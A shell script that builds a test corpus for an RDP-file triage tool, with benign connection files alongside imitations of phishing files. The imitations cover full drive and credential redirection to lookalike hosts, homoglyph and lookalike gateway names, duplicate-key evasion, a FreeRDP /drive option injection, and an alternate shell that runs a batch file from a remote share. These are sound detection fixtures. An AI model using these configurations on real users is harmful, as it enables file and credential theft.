#!/usr/bin/env bash
# Writes Corpus/triage/: connection files for `rdpfile triage`, as phishing campaigns and as an
# organisation's own admins write them. The organisation is contoso.example (pass
# --allow-domain contoso.example and --trust-ca Corpus/triage/contoso-ca.pem); every other
# name is under .example and every address is a documentation address.
#
# Signed files are really signed (by `rdpfile sign`, through openssl) with certificates made
# here, valid for 100 years. The private keys live in a temporary folder and are deleted; only
# the organisation's CA certificate (public) is kept.
#
#   scripts/make-triage-corpus.sh        (from the repository root)
#
# Re-running makes new keys, so signatures and thumbprints change; the tests read thumbprints
# from the files, never from fixed values.
set -euo pipefail
cd "$(dirname "$0")/.."
export PATH="/opt/swift/usr/bin:$PATH"
swift build --product rdpfile >/dev/null
rdpfile="$PWD/.build/debug/rdpfile"

work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
chmod 700 "$work"
out=Corpus/triage
rm -rf "$out"
mkdir -p "$out"
days=36500

# The organisation's CA, and the certificate its RD Web server signs RemoteApp files with.
openssl req -x509 -newkey rsa:2048 -nodes -keyout "$work/ca.key" -out "$out/contoso-ca.pem" -days $days \
  -subj "/CN=Contoso Issuing CA/O=Contoso Ltd" -addext "basicConstraints=critical,CA:TRUE" \
  -addext "keyUsage=critical,keyCertSign,cRLSign" 2>/dev/null
openssl req -newkey rsa:2048 -nodes -keyout "$work/rdweb.key" -out "$work/rdweb.csr" \
  -subj "/CN=rdweb.contoso.example/O=Contoso Ltd" 2>/dev/null
printf 'basicConstraints=CA:FALSE\nkeyUsage=critical,digitalSignature,keyEncipherment\nextendedKeyUsage=serverAuth,codeSigning\nsubjectAltName=DNS:rdweb.contoso.example\n' > "$work/rdweb.ext"
openssl x509 -req -in "$work/rdweb.csr" -CA "$out/contoso-ca.pem" -CAkey "$work/ca.key" -CAcreateserial -CAserial "$work/ca.srl" \
  -out "$work/rdweb.pem" -days $days -extfile "$work/rdweb.ext" 2>/dev/null

# The campaign's certificate: self-signed, a TLS server certificate for its own host name.
openssl req -x509 -newkey rsa:2048 -nodes -keyout "$work/campaign.key" -out "$work/campaign.pem" -days $days \
  -subj "/CN=rdp.contoso-support.example" -addext "basicConstraints=CA:FALSE" \
  -addext "extendedKeyUsage=serverAuth" -addext "subjectAltName=DNS:rdp.contoso-support.example" 2>/dev/null

# A publisher that imitates the organisation's name ("Contoso Security", not "Contoso Ltd").
openssl req -x509 -newkey rsa:2048 -nodes -keyout "$work/imitation.key" -out "$work/imitation.pem" -days $days \
  -subj "/CN=Contoso Security/O=Contoso Security" -addext "basicConstraints=CA:FALSE" \
  -addext "extendedKeyUsage=codeSigning" 2>/dev/null

python3 - "$out" <<'PY'
import sys, os
out = sys.argv[1]

def write(name, lines, encoding="utf-8", bom=False, ending="\r\n"):
    text = ending.join(lines) + ending
    data = text.encode(encoding)
    if bom:
        data = (b"\xff\xfe" if encoding == "utf-16-le" else b"\xef\xbb\xbf") + data
    open(os.path.join(out, name), "wb").write(data)

mstsc_body = [
    "screen mode id:i:2", "use multimon:i:0", "desktopwidth:i:1920", "desktopheight:i:1080", "session bpp:i:32",
    "winposstr:s:0,1,0,0,800,600", "compression:i:1", "keyboardhook:i:2", "audiocapturemode:i:0",
    "videoplaybackmode:i:1", "connection type:i:7", "networkautodetect:i:1", "bandwidthautodetect:i:1",
    "displayconnectionbar:i:1", "enableworkspacereconnect:i:0", "disable wallpaper:i:0",
    "allow font smoothing:i:0", "allow desktop composition:i:0", "disable full window drag:i:1",
    "disable menu anims:i:1", "disable themes:i:0", "disable cursor setting:i:0", "bitmapcachepersistenable:i:1",
]
mstsc_tail = [
    "audiomode:i:0", "redirectprinters:i:1", "redirectlocation:i:0", "redirectcomports:i:0",
    "redirectsmartcards:i:1", "redirectwebauthn:i:1", "redirectclipboard:i:1", "redirectposdevices:i:0",
    "drivestoredirect:s:", "autoreconnection enabled:i:1", "authentication level:i:2", "prompt for credentials:i:0",
    "negotiate security layer:i:1", "remoteapplicationmode:i:0", "alternate shell:s:", "shell working directory:s:",
    "gatewayhostname:s:", "gatewayusagemethod:i:4", "gatewaycredentialssource:i:4", "gatewayprofileusagemethod:i:0",
    "promptcredentialonce:i:0", "gatewaybrokeringtype:i:0", "use redirection server name:i:0", "rdgiskdcproxy:i:0",
    "kdcproxyname:s:", "enablerdsaadauth:i:0",
]

# Benign: what mstsc saves for a desktop in the organisation (UTF-16LE, BOM, CRLF).
write("benign-mstsc-default.rdp", mstsc_body + ["full address:s:ts01.contoso.example"] + mstsc_tail, "utf-16-le", True)
# Benign: an admin's script, UTF-8 with LF, a private address and a service account.
write("benign-script-private.rdp", [
    "full address:s:10.20.30.40:3390", "username:s:CONTOSO\\svc-backup", "screen mode id:i:1",
    "redirectclipboard:i:0", "redirectprinters:i:0", "authentication level:i:2",
], ending="\n")
# Benign once signed: a RemoteApp from the organisation's RD Web, through its gateway.
write("benign-remoteapp-signed.rdp", [
    "full address:s:rdweb.contoso.example", "remoteapplicationmode:i:1", "remoteapplicationname:s:Payroll",
    "remoteapplicationprogram:s:||payroll", "alternate shell:s:||payroll", "redirectclipboard:i:1",
    "redirectprinters:i:1", "drivestoredirect:s:", "redirectsmartcards:i:0", "redirectwebauthn:i:0",
    "devicestoredirect:s:", "usbdevicestoredirect:s:", "redirectcomports:i:0",
    "gatewayhostname:s:gw.contoso.example", "gatewayusagemethod:i:1", "gatewaycredentialssource:i:0",
    "promptcredentialonce:i:1", "authentication level:i:2",
])

# Campaign: a RemoteApp that passes for a cloud product, every drive, clipboard, smart cards,
# WebAuthn, on a host that uses the organisation's name (signed below).
write("campaign-signed.rdp", [
    "full address:s:rdp.contoso-support.example", "remoteapplicationmode:i:1",
    "remoteapplicationname:s:Contoso Secure Storage Connection Stability",
    "remoteapplicationprogram:s:||storage", "remoteapplicationcmdline:s:", "drivestoredirect:s:*",
    "redirectclipboard:i:1", "redirectprinters:i:1", "redirectsmartcards:i:1", "redirectwebauthn:i:1",
    "redirectcomports:i:1", "camerastoredirect:s:*", "devicestoredirect:s:*", "usbdevicestoredirect:s:*",
    "audiocapturemode:i:1", "redirectlocation:i:1", "authentication level:i:0", "prompt for credentials:i:0",
])
# Unsigned files to internet addresses: one asking for everything, one plain.
write("public-ip-drives.rdp", [
    "full address:s:203.0.113.45", "drivestoredirect:s:*", "redirectclipboard:i:1", "redirectsmartcards:i:0",
    "redirectwebauthn:i:0", "username:s:CONTOSO\\alice",
])
write("public-ip-plain.rdp", [
    "full address:s:198.51.100.23:3391", "drivestoredirect:s:", "redirectsmartcards:i:0", "redirectwebauthn:i:0",
    "redirectprinters:i:0", "devicestoredirect:s:", "usbdevicestoredirect:s:", "redirectcomports:i:0",
])
# A host name with Cyrillic letters (с and о), in UTF-16LE as mstsc writes.
write("lookalike-host-utf16.rdp", [
    "full address:s:rdp.\u0441\u043entoso.example", "drivestoredirect:s:", "redirectsmartcards:i:0",
    "redirectwebauthn:i:0", "devicestoredirect:s:", "usbdevicestoredirect:s:", "redirectcomports:i:0",
], "utf-16-le", True)
# The visible address is the organisation's; the alternate one, which clients use, is not.
write("alternate-differs.rdp", [
    "full address:s:ts01.contoso.example", "alternate full address:s:198.51.100.77", "drivestoredirect:s:",
    "redirectsmartcards:i:0", "redirectwebauthn:i:0", "devicestoredirect:s:", "usbdevicestoredirect:s:",
    "redirectcomports:i:0",
])
# An internal host behind a gateway one letter away from the organisation's domain, which gets
# the signed-in Windows account.
write("gateway-lookalike-sso.rdp", [
    "full address:s:ts01.contoso.example", "gatewayhostname:s:gw.contoso.examp1e", "gatewayusagemethod:i:1",
    "gatewaycredentialssource:i:2", "promptcredentialonce:i:1", "drivestoredirect:s:",
])
# A command instead of the desktop.
write("alternate-shell.rdp", [
    "full address:s:ts01.contoso.example", "alternate shell:s:cmd.exe /c \\\\198.51.100.9\\share\\update.bat",
    "shell working directory:s:C:\\Windows\\Temp", "drivestoredirect:s:",
])
# An innocent first address and a second one that wins.
write("duplicate-key-evasion.rdp", [
    "full address:s:ts01.contoso.example", "drivestoredirect:s:", "redirectsmartcards:i:0", "redirectwebauthn:i:0",
    "screen mode id:i:2", "full address:s:203.0.113.99",
])
# A /drive: line that FreeRDP 2.11 runs as a command-line option (the whole disk, no dialog).
write("slash-drive.rdp", [
    "full address:s:ts01.contoso.example", "drivestoredirect:s:", "/drive:all,/",
])
# Signed (below) by "Contoso Security", which imitates the organisation.
write("publisher-imitation.rdp", [
    "full address:s:ts02.contoso.example", "drivestoredirect:s:", "redirectsmartcards:i:1", "authentication level:i:2",
])
PY

"$rdpfile" sign --cert "$work/campaign.pem" --key "$work/campaign.key" "$out/campaign-signed.rdp" >/dev/null
"$rdpfile" sign --cert "$work/rdweb.pem" --key "$work/rdweb.key" --chain "$out/contoso-ca.pem" "$out/benign-remoteapp-signed.rdp" >/dev/null
"$rdpfile" sign --cert "$work/imitation.pem" --key "$work/imitation.key" "$out/publisher-imitation.rdp" >/dev/null
echo "wrote $(ls "$out" | wc -l) files to $out"
